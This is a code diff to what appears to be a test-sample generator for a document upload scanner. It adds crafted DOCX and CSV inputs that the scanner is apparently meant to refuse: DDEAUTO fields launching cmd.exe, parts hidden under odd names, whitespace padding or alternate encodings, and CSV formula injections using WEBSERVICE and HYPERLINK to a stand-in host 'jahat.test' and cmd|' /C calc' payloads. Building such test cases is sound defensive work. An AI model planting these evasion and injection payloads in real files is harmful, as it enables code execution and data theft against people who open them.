@@ -345,6 +345,25 @@ def with_code(*pieces: bytes) -> bytes:
     )
 
 
+def hidden_letters() -> Iterator[Sample]:
+    """The letter that is opened is another part than the one that is looked for by its name."""
+    code = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
+    letter = b"<w:document " + W + b"><w:body>" + code + b"</w:body></w:document>"
+    for name in ("word/isi.foo", "word/document.dat", "isi/document.xml", "isi"):
+        yield Sample(f"dde-in {name}.docx".replace("/", "_"), small_docx((name, letter)))
+    before = b"\xef\xbb\xbf" + b" \r\n" * 40_000
+    yield Sample("dde-behind-blanks.docx", small_docx(("word/isi.foo", before + letter)))
+    declared = doctype(b'<!ENTITY a "x">')(b"<?xml version='1.0'?>" + letter)
+    yield Sample("doctype-in-foo.docx", small_docx(("word/isi.foo", declared)))
+    yield Sample("doctype-behind-blanks.docx", small_docx(
+        ("word/isi.foo", before + b"<!DOCTYPE a><a/>")))  # fmt: skip
+    for encoding in ("utf-16", "utf-16-be", "utf-16-le", "utf-32"):
+        wide = letter.decode().encode(encoding)
+        yield Sample(f"dde-in-{encoding}.docx", small_docx(("word/isi.foo", wide)))
+    for kind in ("externalLink", "vbaProject", "oleObject"):
+        yield Sample(f"{kind}-by-another-name.docx", related(kind, "isi.foo", mode="Internal"))
+
+
 def flagged(content: bytes) -> bytes:
     """Every entry claims to be locked."""
     made, at = bytearray(content), 0
@@ -380,6 +399,7 @@ def letters() -> Iterator[Sample]:
     yield Sample("dde.docx", with_code(b'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))
     yield Sample("dde-in-pieces.docx", with_code(b"DD", b"EAU", b"TO cmd"))
     yield Sample("include.docx", with_code(b'INCLUDEPICTURE "http://jahat.test/a.png"'))
+    yield from hidden_letters()
     yield Sample("page-number.docx", with_code(b"PAGE"), is_refused=False)
     yield Sample("macro.docx", small_docx(("word/vbaProject.bin", b"x")))
     typed = ("[Content_Types].xml", TYPES + b"<!-- macroEnabled -->")
@@ -430,6 +450,14 @@ def others() -> Iterator[Sample]:
     yield Sample("skrip.csv", b"<script>alert(1)</script>,1\n")
     yield Sample("rumus.csv", b'a,b\n=HYPERLINK("http://jahat.test?"&A1),1\n')
     yield Sample("perintah.csv", b"a,b\n@SUM(1)*cmd|' /C calc'!A0,1\n")
+    yield Sample(
+        "rumus-panjang.csv", b'a,b\n1,="' + b"a" * 220 + b'"&WEBSERVICE("http://jahat.test")\n'
+    )
+    yield Sample("perintah-panjang.csv", b"a,b\n1,+1" + b"+1" * 60 + b"+cmd|' /C calc'!A0\n")
+    yield Sample("rumus-terpotong.csv", b"a;b\n" + b"x" * ((1 << 20) - 11) + b";=WEBSERVICE(A1)\n")
+    yield Sample("pemisah-sendiri.csv", b"sep=|\n1|=cmd|' /C calc'!A0,2\n")
+    yield Sample("banyak-rumus.csv", b"a,b\n" + b",=" * (1 << 20))
+    yield Sample("banyak-tanda.csv", b"a,b\n" + b",-" * (2 << 20), is_refused=False)
     yield Sample("biner.csv", b"a,b\n" * 20_000 + b"\0\1\2")
     yield Sample(f"{'n' * 5_000}.pdf", b"MZ")
     yield Sample("a\u202efdp.exe", b"MZ\x90\0")
